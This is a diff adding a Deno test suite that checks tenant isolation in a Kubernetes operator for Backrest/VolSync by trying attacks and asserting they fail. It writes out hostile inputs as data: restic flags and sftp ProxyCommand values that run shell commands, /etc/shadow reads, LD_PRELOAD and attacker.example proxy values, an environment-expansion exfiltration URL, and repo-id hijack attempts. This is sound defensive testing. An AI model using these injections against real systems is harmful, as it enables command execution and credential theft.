@@ -1,0 +1,741 @@
+/**
+ * Tenant isolation, tried as an attacker would. A tenant may create and edit Bindings, VolSync objects and
+ * Secrets in their own namespace and nothing else; the shared Backrest holds every namespace's
+ * credentials. Each test makes one attack against the real apiserver (our CRDs), the real Backrest
+ * v1.14.1 with canaries in its own environment, real restic and restic's rest-server, and checks it goes
+ * nowhere: no program runs, nothing of Backrest's environment or its error text reaches what the tenant can
+ * read, no other namespace's repo is taken or removed. Each test runs its own operator, confined to the
+ * namespaces it creates, so its OperatorConfig and repo claims are its own.
+ */
+import assert from "node:assert/strict";
+import { type BackrestInstance, createResticRepo, startBackrest } from "./harness/backrest.ts";
+import {
+  binding,
+  BINDINGS,
+  cluster,
+  readyCondition,
+  replicationSource,
+  type RunningOperator,
+  secret,
+  startOperator,
+  waitForReason,
+} from "./harness/operator.ts";
+import { peer } from "./harness/peers.ts";
+import { tempDir, waitUntil } from "./harness/process.ts";
+
+const ENV_CANARY = `envcanary${crypto.randomUUID().replaceAll("-", "")}`;
+const CONFIG_NAME = "backrest-volsync-operator";
+
+let shared: Promise<BackrestInstance> | undefined;
+
+/** One Backrest for the file, with a canary in its environment (restic inherits it). */
+function sharedBackrest(): Promise<BackrestInstance> {
+  shared ??= startBackrest({ env: { BVO_CANARY_ENV: ENV_CANARY } });
+  return shared;
+}
+
+async function create(ns: string, ...objs: Record<string, unknown>[]): Promise<void> {
+  const cp = await cluster();
+  for (const obj of objs) await cp.apply(JSON.stringify(obj), ns);
+}
+
+/** POSTs a Binding as the tenant would; returns the apiserver's status and message. */
+async function tryCreate(
+  ns: string,
+  obj: Record<string, unknown>,
+): Promise<{ status: number; text: string }> {
+  const cp = await cluster();
+  const res = await cp.api("POST", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings`, obj);
+  return { status: res.status, text: await res.text() };
+}
+
+async function patchSpec(ns: string, name: string, spec: Record<string, unknown>): Promise<void> {
+  const cp = await cluster();
+  await cp.json("PATCH", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings/${name}`, { spec }, {
+    "content-type": "application/merge-patch+json",
+  });
+}
+
+async function deleteBinding(ns: string, name: string): Promise<void> {
+  const cp = await cluster();
+  await cp.api("DELETE", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings/${name}`).then((r) =>
+    r.body?.cancel()
+  );
+  await waitUntil(`Binding ${ns}/${name} gone`, async () => {
+    const r = await cp.api("GET", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings/${name}`);
+    await r.body?.cancel();
+    return r.status === 404;
+  }, { timeoutMs: 30_000 });
+}
+
+async function operatorConfig(ns: string, spec: Record<string, unknown>): Promise<void> {
+  const cp = await cluster();
+  const path = `${BINDINGS}/namespaces/${ns}/backrestvolsyncoperatorconfigs/${CONFIG_NAME}`;
+  const res = await cp.api("GET", path);
+  if (res.status === 404) {
+    await res.body?.cancel();
+    await create(ns, {
+      apiVersion: "backrest.garethgeorge.com/v1alpha1",
+      kind: "BackrestVolSyncOperatorConfig",
+      metadata: { name: CONFIG_NAME },
+      spec,
+    });
+    return;
+  }
+  const current = await res.json() as Record<string, unknown>;
+  await cp.json("PUT", path, { ...current, spec });
+}
+
+/** An operator confined to `namespaces`, with its OperatorConfig (and repo claims) in `configNs`. */
+function operatorFor(configNs: string, ...namespaces: string[]): Promise<RunningOperator> {
+  return startOperator({ namespaces, configNamespace: configNs, backrestTimeoutMs: 20_000 });
+}
+
+async function backrestRepo(backrest: BackrestInstance, id: string) {
+  return (await backrest.getConfig()).repos.find((r) => r.id === id);
+}
+
+/** Everything a tenant can read about their namespace: Binding statuses and Events. */
+async function tenantView(ns: string): Promise<string> {
+  const cp = await cluster();
+  const bindings = await cp.json("GET", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings`);
+  const events = await cp.json("GET", `/api/v1/namespaces/${ns}/events`);
+  return JSON.stringify([bindings, events]);
+}
+
+/**
+ * Runs `fn` while the CRD `plural` has its `x-kubernetes-validations` below `path` removed: how objects
+ * written under an older CRD (or before a tightened rule) end up stored, so the reconciler's own refusal can
+ * be tried. The shipped CRD is back in force afterwards.
+ */
+async function withRelaxedCrd(plural: string, path: string[], fn: () => Promise<void>): Promise<void> {
+  const cp = await cluster();
+  const crdPath =
+    `/apis/apiextensions.k8s.io/v1/customresourcedefinitions/${plural}.backrest.garethgeorge.com`;
+  const original = await cp.json("GET", crdPath) as Record<string, unknown>;
+  const relaxed = structuredClone(original);
+  // deno-lint-ignore no-explicit-any -- walking a CRD schema by a test-chosen path
+  let node: any = (relaxed as any).spec.versions[0].schema.openAPIV3Schema;
+  for (const key of path) node = node[key];
+  const strip = (n: unknown): void => {
+    if (typeof n !== "object" || n === null) return;
+    const o = n as Record<string, unknown>;
+    delete o["x-kubernetes-validations"];
+    delete o.pattern;
+    for (const v of Object.values(o)) strip(v);
+  };
+  strip(node);
+  await cp.json("PUT", crdPath, relaxed);
+  try {
+    await fn();
+  } finally {
+    const now = await cp.json("GET", crdPath) as { metadata: { resourceVersion: string } };
+    const back = structuredClone(original) as { metadata: { resourceVersion: string } };
+    back.metadata.resourceVersion = now.metadata.resourceVersion;
+    await cp.json("PUT", crdPath, back);
+  }
+}
+
+/** Creates `obj` in `ns`, retrying while a relaxed schema is still on its way to the apiserver's handler. */
+async function createStored(ns: string, obj: Record<string, unknown>, plural = "backrestvolsyncbindings") {
+  const cp = await cluster();
+  await waitUntil(`stored ${plural}`, async () => {
+    const res = await cp.api("POST", `${BINDINGS}/namespaces/${ns}/${plural}`, obj);
+    await res.body?.cancel();
+    return res.status === 201;
+  }, { timeoutMs: 20_000, intervalMs: 200 });
+}
+
+/** A local listener that records every request (a host nobody should hear from). */
+function recorder() {
+  const seen: string[] = [];
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
+    seen.push(`${req.method} ${new URL(req.url).pathname}`);
+    await req.body?.cancel();
+    return new Response("no", { status: 404 });
+  });
+  return { url: `http://127.0.0.1:${server.addr.port}`, seen, close: () => server.shutdown() };
+}
+
+Deno.test("tenant: a restic flag that would run a program in Backrest is refused before any Backrest call, and never runs", async () => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const ns = await cp.namespace("flags");
+  const marker = `${await tempDir("marker")}/ran`;
+  const repo = await createResticRepo();
+  await create(
+    ns,
+    secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
+    replicationSource("src", "s"),
+  );
+  const hostile = [
+    `--password-command="sh -c 'touch ${marker}; echo ${repo.password}'"`,
+    `--password-command=sh`,
+    `-o sftp.command=sh -c 'touch ${marker}'`,
+    `-o sftp.args=-oProxyCommand=touch ${marker}`,
+    `-o rclone.program=/bin/sh`,
+    `--option=rclone.args=serve`,
+    `--cacert=/etc/shadow`,
+    `--repo=/var/lib/backrest`,
+    `--limit-upload=1 --password-command=sh`,
+    `--limit-upload=\${BVO_CANARY_ENV}`,
+  ];
+  // At admission: the apiserver refuses each, naming it.
+  for (const [i, flag] of hostile.entries()) {
+    const r = await tryCreate(
+      ns,
+      binding(`admit-${i}`, {
+        url: backrest.url,
+        source: "src",
+        repo: { idOverride: `flags-${ns}-${i}`, extraFlags: [flag] },
+      }),
+    );
+    assert.equal(r.status, 422, `${flag}: ${r.text}`);
+    assert.match(r.text, /is not an allowed restic flag/, flag);
+  }
+  assert.equal(
+    (await tryCreate(
+      ns,
+      binding("pair", {
+        url: backrest.url,
+        source: "src",
+        repo: { idOverride: `flags-${ns}-pair`, extraFlags: ["-o", `sftp.command=touch ${marker}`] },
+      }),
+    )).status,
+    422,
+    "the two-entry -o form is checked too",
+  );
+
+  // Stored before the rule existed (an older CRD): the reconciler refuses them itself.
+  await withRelaxedCrd("backrestvolsyncbindings", ["properties", "spec", "properties", "repo"], async () => {
+    await createStored(
+      ns,
+      binding("stored", {
+        url: backrest.url,
+        source: "src",
+        repo: { idOverride: `flags-${ns}-stored`, extraFlags: [hostile[0]!], autoInitialize: true },
+      }),
+    );
+    await createStored(
+      ns,
+      binding("stored-pair", {
+        url: backrest.url,
+        source: "src",
+        repo: { idOverride: `flags-${ns}-pair2`, extraFlags: ["-o", `sftp.command=touch ${marker}`] },
+      }),
+    );
+  });
+  const op = await operatorFor(cfg, ns);
+  try {
+    const c = await waitForReason(cp, ns, "stored", "InvalidSpec");
+    assert.match(c.message, /--password-command/);
+    assert.match(
+      (await waitForReason(cp, ns, "stored-pair", "InvalidSpec")).message,
+      /-o must be followed by/,
+    );
+    await create(
+      ns,
+      binding("fine", {
+        url: backrest.url,
+        source: "src",
+        repo: {
+          idOverride: `flags-${ns}-fine`,
+          extraFlags: ["--limit-upload 100", "-o", "rest.connections=2"],
+        },
+      }),
+    );
+    await waitForReason(cp, ns, "fine", "Applied", 60_000);
+    assert.deepEqual((await backrestRepo(backrest, `flags-${ns}-fine`))?.flags, [
+      "--limit-upload=100",
+      "--option=rest.connections=2",
+    ]);
+    assert.equal(await backrestRepo(backrest, `flags-${ns}-stored`), undefined, "never sent to Backrest");
+    assert.equal(await backrestRepo(backrest, `flags-${ns}-pair2`), undefined, "never sent to Backrest");
+    assert.ok(!op.logs.some((l) => l.includes(`flags-${ns}-stored`) && l.includes("applied")));
+    await assert.rejects(Deno.stat(marker), "the command never ran");
+  } finally {
+    await op.stop();
+  }
+});
+
+Deno.test("tenant: nothing Backrest would expand from its environment is sent, and Backrest's own text stays out of status and Events", async () => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const ns = await cp.namespace("expand");
+  const listener = recorder();
+  const repo = await createResticRepo();
+  const restic = await peer("restic");
+  const op = await operatorFor(cfg, ns);
+  try {
+    const cases: [string, Record<string, string>, string][] = [
+      // restic echoes a broken URL with the expanded value in its error.
+      [
+        "bracket",
+        { RESTIC_REPOSITORY: "rest:http://[${BVO_CANARY_ENV}", RESTIC_PASSWORD: "pw-123456" },
+        "RESTIC_REPOSITORY",
+      ],
+      // ...or sends it off to a host of the tenant's choosing.
+      [
+        "exfil",
+        { RESTIC_REPOSITORY: `rest:${listener.url}/\${BVO_CANARY_ENV}/`, RESTIC_PASSWORD: "pw-123456" },
+        "RESTIC_REPOSITORY",
+      ],
+      [
+        "env",
+        {
+          RESTIC_REPOSITORY: repo.uri,
+          RESTIC_PASSWORD: repo.password,
+          RESTIC_REST_USERNAME: "${BVO_CANARY_ENV}",
+        },
+        "RESTIC_REST_USERNAME",
+      ],
+    ];
+    for (const [name, data] of cases) {
+      await create(
+        ns,
+        secret(`s-${name}`, data),
+        replicationSource(name, `s-${name}`),
+        binding(name, {
+          url: backrest.url,
+          source: name,
+          repo: { idOverride: `exp-${ns}-${name}`, autoInitialize: true },
+        }),
+      );
+    }
+    // A failure inside Backrest: a wrong password. Backrest's text names its own restic command line
+    // (BACKREST_RESTIC_COMMAND, from its environment).
+    await create(
+      ns,
+      secret("s-wrong", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: "not-the-password-1" }),
+      replicationSource("wrong", "s-wrong"),
+      binding("wrong", { url: backrest.url, source: "wrong", repo: { idOverride: `exp-${ns}-wrong` } }),
+    );
+    for (const [name, , key] of cases) {
+      const c = await waitForReason(cp, ns, name, "RepositorySecretInvalid");
+      assert.match(c.message, new RegExp(`${key} contains \\$\\{\\.\\.\\.\\}`), name);
+      assert.equal(await backrestRepo(backrest, `exp-${ns}-${name}`), undefined, `${name} never sent`);
+    }
+    const wrong = await waitForReason(cp, ns, "wrong", "BackrestAddRepoFailed", 60_000);
+    assert.match(wrong.message, /restic could not open the repository with this password/);
+    // Backrest did say more: the operator's debug log has it (scrubbed), the tenant does not.
+    assert.ok(op.logs.some((l) => l.includes('"backrestText"')), "Backrest's text is logged at debug level");
+    const view = await tenantView(ns);
+    for (const needle of [ENV_CANARY, restic.path, backrest.dir, "Fatal", "failed to init repo"]) {
+      assert.ok(!view.includes(needle), `the tenant reads ${needle}`);
+    }
+    assert.deepEqual(listener.seen, [], "nothing reached the tenant's listener");
+  } finally {
+    await op.stop();
+    await listener.close();
+  }
+});
+
+Deno.test("tenant: only the keys VolSync's mover passes reach restic; process-altering keys never do", async () => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const ns = await cp.namespace("envkeys");
+  const repo = await createResticRepo();
+  const hostile = {
+    LD_PRELOAD: "/tmp/evil.so",
+    LD_LIBRARY_PATH: "/tmp",
+    PATH: "/tmp/evil-bin",
+    HOME: "/tmp/evil-home",
+    XDG_CACHE_HOME: "/tmp/evil-cache",
+    HTTPS_PROXY: "http://attacker.example:3128",
+    RCLONE_CONFIG_X_TYPE: "local",
+    RESTIC_PASSWORD_COMMAND: "sh -c 'echo pw'",
+    AWS_PROFILE: "backrest-admin",
+    AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/azure/tokens/azure-identity-token",
+  };
+  await create(
+    ns,
+    secret("s", {
+      RESTIC_REPOSITORY: repo.uri,
+      RESTIC_PASSWORD: repo.password,
+      RESTIC_PACK_SIZE: "16",
+      ...hostile,
+    }),
+    replicationSource("src", "s"),
+    binding("all", { url: backrest.url, source: "src", repo: { idOverride: `env-${ns}-all` } }),
+    binding("allow", {
+      url: backrest.url,
+      source: "src",
+      repo: { idOverride: `env-${ns}-allow`, envAllowlist: ["LD_PRELOAD", "PATH", "RESTIC_PACK_SIZE"] },
+    }),
+  );
+  const op = await operatorFor(cfg, ns);
+  try {
+    const c = await waitForReason(cp, ns, "all", "Applied", 60_000);
+    for (const key of Object.keys(hostile)) assert.ok(c.message.includes(key), `${key} named as not passed`);
+    await waitForReason(cp, ns, "allow", "Applied", 60_000);
+    assert.deepEqual((await backrestRepo(backrest, `env-${ns}-all`))?.env, ["RESTIC_PACK_SIZE=16"]);
+    assert.deepEqual(
+      (await backrestRepo(backrest, `env-${ns}-allow`))?.env,
+      ["RESTIC_PACK_SIZE=16"],
+      "envAllowlist narrows, it cannot widen",
+    );
+  } finally {
+    await op.stop();
+  }
+});
+
+Deno.test("tenant: a repository on Backrest's own disk, or through ssh or rclone, is refused unless the OperatorConfig allows it", async () => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const ns = await cp.namespace("backends");
+  const marker = `${await tempDir("marker")}/ran`;
+  const local = `${await tempDir("local")}/repo`;
+  const cases: Record<string, string> = {
+    "backrest-data": `${backrest.dir}/data/stolen`,
+    "local-prefix": `local:${local}`,
+    "sftp-proxy": `sftp:-oProxyCommand=touch ${marker}:/x`,
+    "rclone": "rclone::local:/etc",
+  };
+  for (const [name, uri] of Object.entries(cases)) {
+    await create(
+      ns,
+      secret(`s-${name}`, { RESTIC_REPOSITORY: uri, RESTIC_PASSWORD: "pw-123456" }),
+      replicationSource(name, `s-${name}`),
+      binding(name, {
+        url: backrest.url,
+        source: name,
+        repo: { idOverride: `be-${ns}-${name}`, autoInitialize: true },
+      }),
+    );
+  }
+  const op = await operatorFor(cfg, ns);
+  try {
+    for (const name of Object.keys(cases)) {
+      const c = await waitForReason(cp, ns, name, "RepositoryBackendNotAllowed");
+      assert.match(c.message, /repositoryPolicy\.allowedBackends/);
+      assert.equal(await backrestRepo(backrest, `be-${ns}-${name}`), undefined);
+    }
+    await assert.rejects(Deno.stat(`${backrest.dir}/data/stolen`), "nothing created on Backrest's disk");
+    // The admin allows local paths and sftp: a local repo is registered; an ssh option in the host still is not.
+    await operatorConfig(cfg, { repositoryPolicy: { allowedBackends: ["rest", "local", "sftp"] } });
+    await waitForReason(cp, ns, "local-prefix", "Applied", 60_000);
+    const sftp = await waitForReason(cp, ns, "sftp-proxy", "RepositorySecretInvalid");
+    assert.match(sftp.message, /must not start with '-'/);
+    assert.equal((await readyCondition(cp, ns, "rclone"))?.reason, "RepositoryBackendNotAllowed");
+    await assert.rejects(Deno.stat(marker), "ssh never ran the ProxyCommand");
+  } finally {
+    await op.stop();
+  }
+});
+
+Deno.test("tenant: an applied repo id stays its Binding's: no later, older or edited Binding takes it", async () => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const attacker = await cp.namespace("attacker");
+  const victim = await cp.namespace("victim");
+  const [theirs, ours] = [await createResticRepo(), await createResticRepo()];
+  const op = await operatorFor(cfg, attacker, victim);
+  try {
+    // The attacker's Binding is the oldest of all.
+    await create(
+      attacker,
+      secret("s", { RESTIC_REPOSITORY: theirs.uri, RESTIC_PASSWORD: theirs.password }),
+      replicationSource("db", "s"),
+      binding("old", { url: backrest.url, source: "db", repo: { idOverride: `own-${attacker}` } }),
+    );
+    await waitForReason(cp, attacker, "old", "Applied", 60_000);
+    const teamId = `team-db-${victim}`;
+    await create(
+      victim,
+      secret("s", { RESTIC_REPOSITORY: ours.uri, RESTIC_PASSWORD: ours.password }),
+      replicationSource("db", "s"),
+      binding("default", { url: backrest.url, source: "db" }),
+      binding("named", { url: backrest.url, source: "db", repo: { idOverride: teamId } }),
+    );
+    await waitForReason(cp, victim, "default", "Applied", 60_000);
+    await waitForReason(cp, victim, "named", "Applied", 60_000);
+
+    // Edited to the victim's id: refused, whatever the age.
+    await patchSpec(attacker, "old", { repo: { idOverride: teamId } });
+    const conflict = await waitForReason(cp, attacker, "old", "RepoIdConflict");
+    assert.match(conflict.message, new RegExp(`${victim}/named holds repo id`));
+    // Through another spelling of the same Backrest: the claim is the id's, whatever the URL.
+    await create(
+      attacker,
+      binding("alias", {
+        url: backrest.url.replace("http://", "HTTP://") + "/",
+        source: "db",
+        repo: { idOverride: teamId },
+      }),
+    );
+    await waitForReason(cp, attacker, "alias", "RepoIdConflict");
+    // The victim's default id: another namespace's by name.
+    await patchSpec(attacker, "old", { repo: { idOverride: `volsync-${victim}-replicationsource-db` } });
+    const squat = await waitForReason(cp, attacker, "old", "InvalidSpec");
+    assert.match(squat.message, /another namespace's default repo id/);
+    // Spellings that parsers disagree on never get that far.
+    for (
+      const url of [`${backrest.url}/%2e`, `${backrest.url}/?x`, `${backrest.url}#x`, `${backrest.url}/..;/x`]
+    ) {
+      const r = await tryCreate(
+        attacker,
+        binding("bad-url", { url, source: "db", repo: { idOverride: teamId } }),
+      );
+      assert.equal(r.status, 422, url);
+    }
+
+    assert.equal((await backrestRepo(backrest, teamId))?.uri, ours.uri, "the victim's repo is untouched");
+    assert.equal(
+      (await backrestRepo(backrest, `volsync-${victim}-replicationsource-db`))?.uri,
+      ours.uri,
+      "the victim's default repo is untouched",
+    );
+    // Where ownership lives: the operator's namespace, not the tenant's objects.
+    const leases = await cp.json("GET", `/apis/coordination.k8s.io/v1/namespaces/${cfg}/leases`) as {
+      items: { spec: { holderIdentity: string }; metadata: { annotations: Record<string, string> } }[];
+    };
+    const team = leases.items.find((l) =>
+      l.metadata.annotations["backrest.garethgeorge.com/repo-id"] === teamId
+    );
+    assert.equal(team?.spec.holderIdentity, `${victim}/named`);
+  } finally {
+    await op.stop();
+  }
+});
+
+Deno.test("tenant: a repo made in Backrest's UI is left alone unless the Binding adopts it and the OperatorConfig allows adoption", async () => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const ns = await cp.namespace("adopt");
+  const [admins, tenants] = [await createResticRepo(), await createResticRepo()];
+  const id = `ui-made-${ns}`;
+  // The admin's repo, made in the UI (the same AddRepo the UI sends).
+  const add = await fetch(`${backrest.url}/v1.Backrest/AddRepo`, {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ repo: { id, uri: admins.uri, password: admins.password } }),
+  });
+  assert.equal(add.status, 200, await add.text());
+  await create(
+    ns,
+    secret("s", { RESTIC_REPOSITORY: tenants.uri, RESTIC_PASSWORD: tenants.password }),
+    replicationSource("src", "s"),
+    binding("take", { url: backrest.url, source: "src", repo: { idOverride: id } }),
+  );
+  const op = await operatorFor(cfg, ns);
+  try {
+    const c = await waitForReason(cp, ns, "take", "RepoExistsInBackrest", 60_000);
+    assert.match(c.message, /no Binding applied it/);
+    await patchSpec(ns, "take", { repo: { idOverride: id, adopt: true } });
+    await waitUntil("the adopt edit is seen", async () => {
+      const b = await cp.json("GET", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings/take`) as {
+        status?: { observedGeneration?: number };
+      };
+      return b.status?.observedGeneration === 2;
+    }, { timeoutMs: 30_000 });
+    assert.equal((await readyCondition(cp, ns, "take"))?.reason, "RepoExistsInBackrest");
+    assert.equal((await backrestRepo(backrest, id))?.uri, admins.uri, "the admin's repo is untouched");
+
+    await operatorConfig(cfg, { repositoryPolicy: { allowAdoption: true } });
+    await waitForReason(cp, ns, "take", "Applied", 60_000);
+    assert.equal((await backrestRepo(backrest, id))?.uri, tenants.uri, "adopted with the admin's consent");
+  } finally {
+    await op.stop();
+  }
+});
+
+Deno.test("tenant: RemoveRepo only for an id the Binding holds now, on the URL it applied it to", async () => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const ns = await cp.namespace("remove");
+  const other = await cp.namespace("other");
+  const repo = await createResticRepo();
+  const x = `del-x-${ns}`;
+  const op = await operatorFor(cfg, ns, other);
+  try {
+    await create(
+      ns,
+      secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
+      replicationSource("src", "s"),
+      binding("a", { url: backrest.url, source: "src", deletionPolicy: "Remove", repo: { idOverride: x } }),
+    );
+    await waitForReason(cp, ns, "a", "Applied", 60_000);
+
+    // A Binding whose status says it applied x (anyone with rights on bindings/status can write that).
+    await create(
+      other,
+      secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
+      replicationSource("src", "s"),
+      binding("forged", {
+        url: backrest.url,
+        source: "src",
+        deletionPolicy: "Remove",
+        repo: { idOverride: `forged-${other}` },
+      }),
+    );
+    await waitForReason(cp, other, "forged", "Applied", 60_000);
+    await cp.json("PATCH", `${BINDINGS}/namespaces/${other}/backrestvolsyncbindings/forged/status`, {
+      status: { repoId: x, backrestURL: backrest.url },
+    }, { "content-type": "application/merge-patch+json" });
+    await deleteBinding(other, "forged");
+    assert.ok(await backrestRepo(backrest, x), "a forged status removes nothing");
+    assert.equal(await backrestRepo(backrest, `forged-${other}`), undefined, "its own repo went");
+
+    // a moves to another id and stops before applying it (its Secret is missing): it still holds x.
+    await create(ns, replicationSource("nosecret", "missing"));
+    await patchSpec(ns, "a", {
+      source: { kind: "ReplicationSource", name: "nosecret" },
+      repo: { idOverride: `del-y-${ns}` },
+    });
+    await waitForReason(cp, ns, "a", "RepositorySecretNotFound");
+    await create(ns, binding("b", { url: backrest.url, source: "src", repo: { idOverride: x } }));
+    await waitForReason(cp, ns, "b", "RepoIdConflict");
+    // Deleted, a removes what it holds, and x is free for b.
+    await deleteBinding(ns, "a");
+    await waitForReason(cp, ns, "b", "Applied", 60_000);
+    assert.ok(await backrestRepo(backrest, x), "b registered x again");
+  } finally {
+    await op.stop();
+  }
+});
+
+Deno.test("tenant: no Binding is reconciled before the OperatorConfig is read; one invalid at start halts everything", async (t) => {
+  const backrest = await sharedBackrest();
+  const cp = await cluster();
+  const repo = await createResticRepo();
+  const listener = recorder();
+  const scenario = async (
+    name: string,
+    config: (cfg: string) => Promise<void>,
+    reason: string,
+  ) => {
+    const cfg = await cp.namespace("cfg");
+    const ns = await cp.namespace(name);
+    await config(cfg);
+    await create(
+      ns,
+      secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
+      replicationSource("src", "s"),
+      binding("b", { url: listener.url, source: "src", repo: { idOverride: `start-${ns}` } }),
+    );
+    const before = listener.seen.length;
+    const op = await operatorFor(cfg, ns);
+    try {
+      const c = await waitForReason(cp, ns, "b", reason);
+      await new Promise((r) => setTimeout(r, 1000));
+      assert.equal(listener.seen.length, before, `${name}: no request reached the Backrest URL`);
+      return { cfg, ns, op, message: c.message };
+    } catch (e) {
+      await op.stop();
+      throw e;
+    }
+  };
+  try {
+    await t.step("already paused", async () => {
+      const s = await scenario("paused", (cfg) => operatorConfig(cfg, { paused: true }), "Paused");
+      await s.op.stop();
+    });
+    await t.step("already allowlisted", async () => {
+      const s = await scenario(
+        "allow",
+        (cfg) => operatorConfig(cfg, { backrestURLAllowlist: [backrest.url] }),
+        "BackrestURLNotAllowed",
+      );
+      await s.op.stop();
+    });
+    await t.step("already invalid: fail closed, then fixed", async () => {
+      const s = await scenario("invalid", async (cfg) => {
+        await withRelaxedCrd("backrestvolsyncoperatorconfigs", ["properties", "spec"], async () => {
+          await createStored(cfg, {
+            apiVersion: "backrest.garethgeorge.com/v1alpha1",
+            kind: "BackrestVolSyncOperatorConfig",
+            metadata: { name: CONFIG_NAME },
+            // An allowlist entry the CRD took before it learned to refuse such spellings.
+            spec: { backrestURLAllowlist: [`${backrest.url}/backrest/..;/admin`] },
+          }, "backrestvolsyncoperatorconfigs");
+        });
+      }, "OperatorConfigInvalid");
+      try {
+        assert.match(s.message, /is invalid .*backrestURLAllowlist/);
+        let last: unknown;
+        await waitUntil("the config reports itself invalid", async () => {
+          const c = await cp.json(
+            "GET",
+            `${BINDINGS}/namespaces/${s.cfg}/backrestvolsyncoperatorconfigs/${CONFIG_NAME}`,
+          ) as { status?: { conditions?: { reason: string; message: string }[] } };
+          last = c.status;
+          return c.status?.conditions?.[0]?.reason === "InvalidSpec" &&
+            /nothing is done until it is fixed/.test(c.status.conditions[0].message);
+        }, { timeoutMs: 20_000 }).catch((e) => {
+          throw new Error(
+            `${e.message}; status ${JSON.stringify(last)}; log: ${s.op.logs.slice(-8).join("\n")}`,
+          );
+        });
+        await operatorConfig(s.cfg, { backrestURLAllowlist: [] });
+        // Valid now (no allowlist): the Binding is tried against its URL.
+        await waitUntil("requests reach the URL", () => Promise.resolve(listener.seen.length > 0), {
+          timeoutMs: 30_000,
+        });
+      } finally {
+        await s.op.stop();
+      }
+    });
+  } finally {
+    await listener.close();
+  }
+});
+
+Deno.test("tenant: drift repair lists Backrest with credentials that worked, whatever another Binding's authRef says", async () => {
+  const user = { username: "admin", password: `pw-${crypto.randomUUID()}` };
+  const backrest = await startBackrest({ auth: user });
+  const cp = await cluster();
+  const cfg = await cp.namespace("cfg");
+  const ns = await cp.namespace("drift");
+  const repo = await createResticRepo();
+  const id = `drift-${ns}`;
+  await operatorConfig(cfg, { resyncPeriod: "2s" });
+  await create(
+    ns,
+    secret("auth", { username: user.username, password: user.password }),
+    secret("bogus", { username: "tenant", password: "not-a-backrest-password" }),
+    secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
+    replicationSource("src", "s"),
+    binding("good", { url: backrest.url, source: "src", authRef: "auth", repo: { idOverride: id } }),
+  );
+  const op = await operatorFor(cfg, ns);
+  try {
+    await waitForReason(cp, ns, "good", "Applied", 60_000);
+    // A tenant's Binding on the same Backrest with credentials Backrest refuses, retried again and again.
+    await create(
+      ns,
+      binding("bogus", {
+        url: backrest.url,
+        source: "src",
+        authRef: "bogus",
+        repo: { idOverride: `bogus-${ns}` },
+      }),
+    );
+    await waitForReason(cp, ns, "bogus", "BackrestAuthInvalid");
+    // Someone deletes the repo in Backrest's UI.
+    const basic = `Basic ${btoa(`${user.username}:${user.password}`)}`;
+    const res = await fetch(`${backrest.url}/v1.Backrest/RemoveRepo`, {
+      method: "POST",
+      headers: { "content-type": "application/json", authorization: basic },
+      body: JSON.stringify({ repoId: id }),
+    });
+    assert.equal(res.status, 200, await res.text());
+    await waitUntil(
+      "drift repair put it back",
+      async () => (await backrestRepo(backrest, id)) !== undefined,
+      {
+        timeoutMs: 30_000,
+        intervalMs: 250,
+      },
+    );
+  } finally {
+    await op.stop();
+    await backrest.stop();
+  }
+});
